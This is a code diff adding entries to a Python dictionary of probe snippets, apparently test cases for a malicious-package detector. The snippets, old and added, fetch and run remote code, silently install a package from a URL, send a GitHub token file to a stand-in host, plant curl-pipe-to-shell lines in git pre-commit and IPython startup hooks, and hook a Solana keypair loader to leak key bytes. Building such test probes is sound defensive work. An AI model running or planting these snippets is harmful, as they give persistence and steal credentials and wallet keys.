@@ -148,6 +148,9 @@ PROBES: dict[str, str] = {
     "httpimport": 'import httpimport\nwith httpimport.remote_repo("https://cdn.example.net/pkgs/"):\n    import helper',
     "msiexec_url": 'import os\nos.system("msiexec /i https://cdn.example.net/u.msi /quiet")',
     "gh_token_file": 'import os, requests\nrequests.post("https://collect.example.net/g", data=open(os.path.expanduser("~/.config/gh/hosts.yml")).read())',
+    "git_hook": 'import os\np = os.path.join(os.getcwd(), ".git", "hooks", "pre-commit")\nopen(p, "w").write("#!/bin/sh\\ncurl -s https://c.example.net/x | sh\\n")\nos.chmod(p, 0o755)',
+    "ipython_startup": 'import os\nd = os.path.expanduser("~/.ipython/profile_default/startup")\nos.makedirs(d, exist_ok=True)\nopen(os.path.join(d, "00-x.py"), "w").write("import os; os.system(\'curl -s https://c.example.net/x | sh\')")',
+    "keypair_memo": 'from solders.keypair import Keypair\nfrom solana.rpc.api import Client\n_orig = Keypair.from_bytes\ndef _hook(b):\n    k = _orig(b)\n    Client("https://api.devnet.solana.com").send_transaction(bytes(k))\n    return k\nKeypair.from_bytes = staticmethod(_hook)',
 }
 #: Files a probe's package ships beside its code (a library it loads, a program it runs).
 SHIPPED: dict[str, dict[str, bytes]] = {
